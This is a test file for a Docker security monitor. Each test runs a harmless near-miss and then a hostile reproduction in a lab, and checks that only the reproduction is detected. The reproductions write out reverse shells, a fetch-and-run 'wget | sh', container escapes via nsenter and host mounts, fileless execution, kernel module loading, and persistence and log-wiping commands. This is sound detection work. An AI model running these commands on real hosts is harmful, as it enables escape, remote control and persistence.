import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Finding, Severity } from '../../shared/finding.ts';
import { askEngine, perlMounts } from '../support/engine-client.ts';
import { eventually } from '../support/eventually.ts';
import { type Lab, startLab } from '../support/lab.ts';
import { type Moorwatch, startMoorwatch } from '../support/moorwatch.ts';

/**
 * The catalogue's reproductions on a real engine. Each has a near-miss: the same command with only the dangerous attribute removed or
 * narrowed. The near-miss runs first, so that its observations are in the log before those of the reproduction.
 */
interface Reproduction {
  readonly id: string;
  readonly rows: Readonly<Record<string, Severity>>;
  readonly nearMiss: string;
  readonly run: string;
}

const disk = '$(lsblk -dnpo NAME,TYPE 2>/dev/null | awk \'$2=="disk"{print $1; exit}\' || findmnt -no SOURCE /)';
const imds = (name: string, address: string) => `docker run -d --name ${name} --cap-add NET_ADMIN $N $B
  docker exec ${name} ip addr add ${address}/32 dev lo
  docker exec -d ${name} nc -l -p 80
  sleep 1
  docker exec ${name} sh -c 'echo | nc -w 1 ${address} 80' || true`;

/** The image has no perl: the host's own, with the libraries where it looks for them. */
const hostsPrograms = '-v /usr:/usr:ro -v /usr/lib:/lib:ro -v /usr/lib64:/lib64:ro';
const fromMemory = `$n="x"; $f=syscall(319,$n,0); open $h,">&=$f"; open $b,"<","/usr/bin/sleep"; binmode $_ for $h,$b;
  {local $/; syswrite $h,<$b>} $^F=255; exec {"/proc/self/fd/$f"} "[kworker/0:1]","39"`;
/** Somebody listens in the container, and something connects to it. */
const listening = (name: string, client: string) => `docker run -d --name ${name} $N $B
  docker exec -d ${name} sh -c 'sleep 60 | nc -l -p 4444'
  sleep 1
  docker exec -d ${name} ${client}`;

const makesHostRoot = (name: string) => ({
  method: 'POST',
  path: `/containers/create?name=${name}`,
  body: '{"Image":"lab/bb:1","HostConfig":{"Binds":["/:/h:ro"],"NetworkMode":"none"}}',
});

const reproductions: readonly Reproduction[] = [
  {
    id: 'r01',
    rows: { 'CFG-01': 'high' },
    nearMiss: 'docker create --name near-r01 $N $B',
    run: 'docker create --name lab-r01 --privileged $N $B',
  },
  {
    id: 'r02',
    rows: { 'CFG-03': 'high' },
    nearMiss: 'docker run -d --name near-r02 --cap-add NET_BIND_SERVICE $N $B',
    run: 'docker run -d --name lab-r02 --cap-add SYS_ADMIN $N $B',
  },
  {
    id: 'r04',
    rows: { 'MNT-01': 'high' },
    nearMiss: 'docker run -d --name near-r04 -v /etc/hostname:/var/run/docker.sock $N $B',
    run: 'docker run -d --name lab-r04 -v $S:/var/run/docker.sock $N $B',
  },
  {
    id: 'r07',
    rows: { 'MNT-05': 'high' },
    nearMiss: 'docker run -d --name near-r07 -v /srv:/host:ro $N $B',
    run: 'docker run -d --name lab-r07 -v /:/host:ro $N $B',
  },
  {
    id: 'r07rw',
    rows: { 'MNT-05': 'critical' },
    nearMiss: 'docker run -d --name near-r07rw -v /srv:/host $N $B',
    run: 'docker run -d --name lab-r07rw -v /proc/self/root:/host $N $B',
  },
  {
    id: 'r08',
    rows: { 'MNT-06': 'critical' },
    nearMiss: 'docker volume create near-v8; docker run -d --name near-r08 -v near-v8:/data $N $B',
    run: 'docker volume create lab-v8 -o type=none -o o=bind -o device=/; docker run -d --name lab-r08 -v lab-v8:/data $N $B',
  },
  {
    id: 'r11',
    rows: { 'CFG-20': 'high' },
    nearMiss: 'docker run -d --name near-r11 $N $B',
    run: 'docker run -d --name lab-r11 --pid host $N $B',
  },
  {
    id: 'r12',
    rows: { 'CFG-30': 'high', 'CFG-32': 'high' },
    nearMiss: 'docker run -d --name near-r12 --security-opt no-new-privileges $N $B',
    run: 'docker run -d --name lab-r12 --security-opt seccomp=unconfined --security-opt systempaths=unconfined $N $B',
  },
  {
    id: 'r14',
    rows: { 'CFG-40': 'high' },
    nearMiss: 'docker create --name near-r14 --device /dev/zero:/dev/zero:r $N $B',
    run: `docker create --name lab-r14 --device ${disk}:/dev/disk0:r $N $B`,
  },
  {
    id: 'r15',
    rows: { 'CFG-41': 'high' },
    nearMiss: "docker run -d --name near-r15 --device-cgroup-rule 'c 188:* rwm' $N $B",
    run: "docker run -d --name lab-r15 --device-cgroup-rule 'b *:* rwm' $N $B",
  },
  {
    id: 'r16',
    rows: { 'CFG-21': 'medium', 'CFG-22': 'medium', 'CFG-23': 'low' },
    nearMiss: 'docker create --name near-r16 --network none --ipc private $B',
    run: 'docker create --name lab-r16 --network host --ipc host --uts host $B',
  },
  {
    id: 'r17',
    rows: { 'CFG-25': 'medium' },
    nearMiss:
      'docker run -d --name lab-r17a -e API_TOKEN=lab $N $B; docker run -d --name near-r17 --cap-add SYS_PTRACE $N $B',
    run: 'docker run -d --name lab-r17 --pid container:lab-r17a --cap-add SYS_PTRACE $N $B',
  },
  {
    id: 'r19',
    rows: { 'API-09': 'medium' },
    nearMiss:
      'docker run -d --name near-r19 --memory 64m --memory-swap 64m $N $B; docker update --memory 32m --memory-swap 32m near-r19',
    run: 'docker run -d --name lab-r19 --memory 32m $N $B; docker update --restart always --memory 512m --memory-swap 512m --pids-limit -1 lab-r19',
  },
  {
    id: 'r20',
    rows: { 'EXE-01': 'critical' },
    nearMiss: 'docker run -d --name near-r20 -u 1000 $N $B; docker exec -u 0 near-r20 id',
    run: 'docker run -d --name lab-r20 -u 1000 $N $B; docker exec --privileged -u 0 lab-r20 id',
  },
  {
    id: 'r20refused',
    rows: { 'EXE-01': 'critical' },
    nearMiss: 'docker run -d --name near-r20refused $N $B; docker exec near-r20refused /no/such/program || true',
    run: 'docker run -d --name lab-r20refused $N $B; docker exec --privileged lab-r20refused /no/such/program || true',
  },
  {
    id: 'r21',
    rows: { 'EXE-02': 'high' },
    nearMiss: 'docker run -d --name near-r21 -u 1000 $N $B; docker exec -u 1000 near-r21 id',
    run: 'docker run -d --name lab-r21 -u 1000 $N $B; docker exec -u 00 lab-r21 id',
  },
  {
    id: 'r23',
    rows: { 'EXE-03': 'medium' },
    nearMiss: 'docker run -d --name near-r23 $N $B; docker exec near-r23 sh -c id',
    run: 'docker run -d --name lab-r23 $N $B; script -qec "docker exec -it lab-r23 sh -c id" /dev/null',
  },
  {
    id: 'caps',
    rows: { 'CFG-07': 'high', 'CFG-08': 'medium', 'CFG-10': 'medium' },
    nearMiss: 'docker create --name near-caps --cap-add SYS_NICE $N $B',
    run: 'docker create --name lab-caps --cap-add SYS_RAWIO --cap-add SYSLOG --cap-add NET_ADMIN $N $B',
  },
  {
    id: 'cron',
    rows: { 'MNT-12': 'critical', 'CFG-50': 'high' },
    nearMiss: 'docker create --name near-cron --rm -v /srv:/c $N $B',
    run: 'docker create --name lab-cron --rm -v /etc/cron.d:/c $N $B',
  },
  {
    id: 'heir',
    rows: { 'CFG-26': 'high', 'CFG-46': 'high' },
    nearMiss:
      'docker create --name own-r07 -v /srv:/h $N $B; docker create --name near-heir --volumes-from own-r07 --restart no $N $B',
    run: 'docker create --name donor-r07 -v /:/h:ro $N $B; docker create --name lab-heir --volumes-from donor-r07 --restart always $N $B',
  },
  {
    id: 'entry',
    rows: { 'CFG-48': 'high', 'CFG-47': 'medium', 'CFG-35': 'medium', 'CFG-43': 'medium' },
    nearMiss:
      "docker create --name near-entry -e NODE_OPTIONS=--max-old-space-size=99 $N $B sh -c 'wget -O /tmp/x http://x/y'",
    run: `docker create --name lab-entry --log-driver none --sysctl net.ipv4.ip_forward=1 -e LD_PRELOAD=/tmp/x.so $N $B \\
      sh -c 'wget -qO- http://x/y | sh'`,
  },
  {
    id: 'port',
    rows: { 'CFG-45': 'high' },
    nearMiss: 'docker create --name near-port -p 127.0.0.1:2375:2375 $B',
    run: 'docker create --name lab-port -p 2375:80 $B',
  },
  {
    id: 'engine',
    rows: { 'MNT-11': 'high', 'CFG-28': 'medium' },
    nearMiss: 'docker create --name near-engine -v engine-v:/d $N $B',
    run: 'docker create --name lab-engine --cgroup-parent /elsewhere -v $(docker info -f "{{.DockerRootDir}}")/containers:/d:ro $N $B',
  },
  {
    id: 'r30',
    rows: { 'ESC-10': 'critical', 'ESC-11': 'critical' },
    nearMiss:
      'docker run -d --name near-r30 --pid host $P $N $B; docker exec near-r30 nsenter --help || true; docker exec -d near-r30 sleep 31',
    run: `docker run -d --name lab-r30 --pid host $P $N $B; docker exec lab-r30 nsenter -t 1 -m -u -n -i -- true || true
      docker exec -d lab-r30 nsenter -t $(cat $(dirname $S)/docker.pid) -m -u -i -- /usr/bin/sleep 30`,
  },
  {
    id: 'r35',
    rows: { 'ESC-30': 'critical' },
    nearMiss: 'docker run -d --name near-r35 $P $N $B; docker exec near-r35 lsmod || true',
    run: "docker run -d --name lab-r35 $P $N $B; docker exec lab-r35 sh -c 'echo x >/tmp/x.ko'; docker exec lab-r35 insmod /tmp/x.ko || true",
  },
  {
    id: 'r39',
    rows: { 'FIL-01': 'critical', 'FIL-12': 'high' },
    nearMiss: `docker run -d --name near-r39 $N ${hostsPrograms} $B; docker exec -d near-r39 perl -e 'exec "/usr/bin/sleep","39"'`,
    run: `docker run -d --name lab-r39 $N ${hostsPrograms} $B; docker exec -d lab-r39 perl -e '${fromMemory}'`,
  },
  {
    id: 'r42',
    rows: { 'NET-01': 'critical' },
    nearMiss: listening('near-r42', 'nc 127.0.0.1 4444'),
    run: listening('lab-r42', 'nc 127.0.0.1 4444 -e /bin/sh'),
  },
  {
    id: 'r42fifo',
    rows: { 'NET-01': 'critical' },
    nearMiss: listening('near-r42fifo', "sh -c 'mkfifo /tmp/f; sleep 42 </tmp/f 2>&1 | nc 127.0.0.1 4444 >/tmp/f'"),
    run: listening('lab-r42fifo', "sh -c 'mkfifo /tmp/f; sh -i </tmp/f 2>&1 | nc 127.0.0.1 4444 >/tmp/f'"),
  },
  {
    id: 'r32',
    rows: { 'MNT-17': 'high' },
    nearMiss: 'docker run -d --name near-r32 $P $N --tmpfs /mnt $B; docker exec near-r32 mkdir /mnt/x',
    run: 'docker run -d --name lab-r32 $P $N $B; docker exec lab-r32 mount -t tmpfs /dev/disk0 /mnt',
  },
  {
    id: 'r44',
    rows: { 'CRD-01': 'high' },
    nearMiss: imds('near-r44', '169.254.10.10'),
    run: imds('lab-r44', '169.254.169.254'),
  },
  {
    id: 'r48',
    rows: { 'IMP-01': 'critical' },
    nearMiss: 'docker run -d --name near-r48 --label stratum=1 $N $B echo --donate=1 -o tcp://127.0.0.1:3333 -u wallet',
    run: 'docker run -d --name lab-r48 $N $B echo --donate-level=1 -o stratum+tcp://127.0.0.1:3333 -u wallet',
  },
  {
    id: 'r51',
    rows: { 'API-01': 'high', 'API-02': 'critical', 'SEQ-01': 'critical' },
    nearMiss: `docker run -d --name near-r51 -v $S:/any.sock $N ${perlMounts} $B
      docker create --name near-made-r51 -v /:/h:ro $N $B`,
    run: `docker run -d --name lab-r51 -v $S:/any.sock $N ${perlMounts} $B
      docker exec lab-r51 ${askEngine('/any.sock', { ...makesHostRoot('made-r51'), hold: 1 })}`,
  },
  {
    id: 'r53',
    rows: { 'API-05': 'low', 'FIL-03': 'high', 'IMG-04': 'medium' },
    nearMiss:
      'docker run -d --name near-r53 $N $B; docker cp near-r53:/etc/passwd - >/dev/null; docker exec near-r53 /bin/id',
    run: `docker run -d --name lab-r53 $N $B; printf '#!/bin/sh\\nid\\n' >/tmp/lab-r53; chmod +x /tmp/lab-r53
      docker cp /tmp/lab-r53 lab-r53:/tmp/t; rm /tmp/lab-r53; docker exec lab-r53 /tmp/t`,
  },
  {
    id: 'r53out',
    rows: { 'API-06': 'low' },
    nearMiss: 'docker run -d --name near-r53out $N $B; docker cp /etc/hostname near-r53out:/tmp/x',
    run: 'docker run -d --name lab-r53out $N $B; docker cp lab-r53out:/etc/passwd - >/dev/null',
  },
  {
    id: 'r54',
    rows: { 'IMG-05': 'medium', 'IMG-06': 'low' },
    nearMiss: 'docker run -d --name near-r54 $N $B; docker pause near-r54; docker unpause near-r54',
    run: 'docker run -d --name lab-r54 $N $B; docker commit lab-r54 lab/commit:1; docker export lab-r54 >/dev/null; docker rmi lab/commit:1',
  },
  {
    id: 'r56',
    rows: { 'API-08': 'high', 'EVA-05': 'high' },
    nearMiss: 'docker run -d --name near-r56 $N $B',
    run: 'docker run -d --name was-r56 $N $B; docker rename was-r56 lab-watchtower-r56',
  },
  {
    id: 'r58',
    rows: { 'API-07': 'medium' },
    nearMiss: `docker network create --internal near-n1; docker network create --internal near-n2
      docker create --name near-r58 --network near-n1 $B; docker network connect near-n2 near-r58; docker start near-r58`,
    run: `docker network create --internal lab-n1; docker network create --internal lab-n2
      docker run -d --name lab-r58 --network lab-n1 $B; sleep 6; docker network connect lab-n2 lab-r58`,
  },
  {
    id: 'r60',
    rows: { 'FIL-06': 'high', 'FIL-07': 'medium', 'FIL-08': 'high' },
    nearMiss: `docker run -d --name near-r60 $N $B
      docker exec near-r60 sh -c 'echo x >/etc/motd; mkdir -p /var/log; : >/var/log/auth.log; ln -sf /dev/null /root/x; cp /bin/busybox /tmp/s; chmod 755 /tmp/s'`,
    run: `docker run -d --name lab-r60 $N $B
      docker exec lab-r60 sh -c 'echo x >/etc/ld.so.preload; echo "* * * * * id" >/etc/crontab; mkdir -p /var/log; : >/var/log/auth.log; ln -sf /dev/null /root/.ash_history; cp /bin/busybox /tmp/s; chmod 4755 /tmp/s'`,
  },
  {
    id: 'r61',
    rows: { 'ESC-12': 'high' },
    nearMiss: `docker run -d --name near-r61 -v /:/host:ro $N $B
      docker exec near-r61 sh -c 'mkdir -p /tmp/j/bin; cp /bin/busybox /tmp/j/bin/sleep'; docker exec -d near-r61 chroot /tmp/j /bin/sleep 61`,
    run: 'docker run -d --name lab-r61 -v /:/host:ro $N $B; docker exec -d lab-r61 chroot /host /usr/bin/sleep 61',
  },
];

const about = (findings: readonly Finding[], row: string, name: string) =>
  findings.filter(({ rule, container }) => rule.catalogue.includes(row) && container?.name.includes(name));

describe('reproductions of the catalogue', () => {
  let lab: Lab;
  let moorwatch: Moorwatch;

  beforeAll(async () => {
    lab = startLab();
    moorwatch = await startMoorwatch({ engine: lab.host });
    await moorwatch.ready();
  });
  afterAll(async () => {
    await moorwatch?.stop();
    lab?.stop();
  });

  test.each(reproductions)('$id raises $rows, its near-miss does not', async ({ id, rows, nearMiss, run }) => {
    await lab.sh(nearMiss);
    await lab.sh(run);
    for (const [row, severity] of Object.entries(rows)) {
      const finding = await moorwatch.finding(row, (name) => name.endsWith(id) && !name.startsWith('near-'));
      expect(finding).toMatchObject({ severity, host: { id: expect.any(String) as unknown } });
      expect(finding.summary).not.toBe('');
    }
    const findings = await moorwatch.findings();
    for (const row of Object.keys(rows)) expect(about(findings, row, `near-${id}`)).toEqual([]);
  });

  test('an ordinary container raises nothing but what every container has, below medium', async () => {
    await lab.sh(`docker run -d --name ordinary -v ordinary-v:/data -v /etc/localtime:/etc/localtime:ro \\
      --health-cmd 'test -f /etc/passwd' --health-interval 1s $N $B sh -c 'while :; do date >/data/now; sleep 1; done'
      docker exec ordinary ls /data; sleep 4`);
    await lab.sh('docker run -d --name after-ordinary --pid host $N $B');
    await moorwatch.finding('CFG-20', (name) => name === 'after-ordinary');
    const findings = await moorwatch.findings();
    const ordinary = findings.filter(({ container }) => container?.name === 'ordinary');
    const everybody = ordinary.filter(
      ({ nature, severity }) => nature === 'condition' && ['informational', 'low'].includes(severity),
    );
    expect(ordinary.map(({ summary }) => summary)).toEqual(everybody.map(({ summary }) => summary));
  });

  test('a plain rename is told at low, only one that resembles a protected name at high', async () => {
    await lab.sh('docker run -d --name plain-a $N $B; docker rename plain-a plain-b');
    expect(await moorwatch.finding('API-08', (name) => name === 'plain-b')).toMatchObject({ severity: 'low' });
  });

  test('r25: three execs that fail within five minutes are a probe at medium, two and a failing health check are not', async () => {
    const failing = (name: string) => `docker exec ${name} /usr/bin/nonexistent-sh || true`;
    await lab.sh(`docker run -d --name near-r25 $N $B; ${failing('near-r25')}; ${failing('near-r25')}
      docker run -d --name near-r25check --health-cmd /no/such/check --health-interval 1s $N $B
      docker run -d --name lab-r25 $N $B; for i in 1 2 3; do ${failing('lab-r25')}; done; sleep 6`);
    const isProbe = ({ rule, severity }: Finding) => rule.catalogue.includes('EXE-05') && severity === 'medium';
    const probe = await eventually(async () => (await moorwatch.findings()).find(isProbe));
    expect(probe.container?.name).toBe('lab-r25');
    await lab.sh('docker run -d --name after-r25 --cap-add SYS_MODULE $N $B');
    await moorwatch.finding('CFG-04', (name) => name === 'after-r25');
    expect((await moorwatch.findings()).filter(isProbe)).toHaveLength(1);
    expect(await moorwatch.finding('EXE-05', (name) => name === 'near-r25')).toMatchObject({
      severity: 'informational',
    });
  });

  test('r51: a container made by a connection that nobody saw is told all the same, as possible at least', async () => {
    await lab.sh(`docker run -d --name short-r51 -v $S:/any.sock $N ${perlMounts} $B
      docker exec short-r51 ${askEngine('/any.sock', makesHostRoot('made-short-r51'))}`);
    const { severity, summary } = await moorwatch.finding('API-02', (name) => name === 'made-short-r51');
    expect(['medium', 'critical']).toContain(severity);
    expect(summary).toContain('short-r51');
  });

  test('r54: a saved image, r59: a reloaded engine, and destroyed volumes are told although no container is concerned', async () => {
    const findings = async (row: string) =>
      (await moorwatch.findings()).filter(({ rule }) => rule.catalogue.includes(row));
    expect(await findings('DMN-06')).toEqual([]);
    await lab.sh('docker volume create v1; docker volume create v2; docker volume rm v1 v2');
    await lab.sh(`docker save lab/bb:1 >/dev/null; kill -HUP $(cat ${lab.dir}/run/docker.pid)`);
    const told = async (row: string, title: string) =>
      await eventually(async () => (await findings(row)).find(({ rule }) => rule.title === title));
    expect(await told('IMG-06', 'Image saved')).toMatchObject({ severity: 'low' });
    // Nothing differs from what held before: that it was reloaded is a remark.
    expect(await told('DMN-06', 'Engine configuration reloaded')).toMatchObject({ severity: 'informational' });
    expect(await findings('API-17')).toEqual([]);
    await lab.sh('docker volume create v3; docker volume rm v3');
    expect(await told('API-17', 'Volumes destroyed in numbers')).toMatchObject({ severity: 'medium' });
  });

  test('r55: a name of an image that is pointed elsewhere under a running container is told, a rebuild is not', async () => {
    const repointed = async () => (await moorwatch.findings()).filter(({ rule }) => rule.catalogue.includes('IMG-03'));
    await lab.sh(`docker tag $B lab/app:1; docker run -d --name lab-r55a $N lab/app:1
      printf 'FROM lab/bb:1\\nLABEL a=b\\n' | docker build -q -t lab/app:1 - 2>/dev/null; docker run -d --name lab-r55b $N lab/app:1
      docker export lab-r55a | docker import - lab/other:1; docker tag lab/other:1 lab/unused:1`);
    await lab.sh('docker tag lab/other:1 lab/app:1; docker run -d --name lab-r55c $N lab/app:1 sleep 60');
    const finding = await eventually(async () => (await repointed())[0]);
    expect(finding).toMatchObject({ severity: 'high', summary: expect.stringContaining('lab-r55b') as unknown });
    await lab.sh('docker run -d --name after-r55 --cap-add SYS_MODULE $N $B');
    await moorwatch.finding('CFG-04', (name) => name === 'after-r55');
    expect(await repointed()).toHaveLength(1);
  });

  test('r62: of a flood of events all are there, or the gap is said', async () => {
    await lab.sh('docker run -d --name lab-r62 $N $B');
    await lab.sh('for i in $(seq 1 120); do docker exec -d -u 00 lab-r62 true & done; wait');
    await lab.sh('docker exec --privileged lab-r62 true');
    await moorwatch.finding('EXE-01', (name) => name === 'lab-r62');
    const seen = await moorwatch.observations(
      ({ kind, event, container }) => kind === 'exec' && event.action === 'exec_start' && container?.name === 'lab-r62',
    );
    const gaps = await moorwatch.observations(({ kind }) => kind === 'gap');
    if (new Set(seen.map(({ id }) => id)).size < 121) expect(gaps).not.toEqual([]);
  });
});
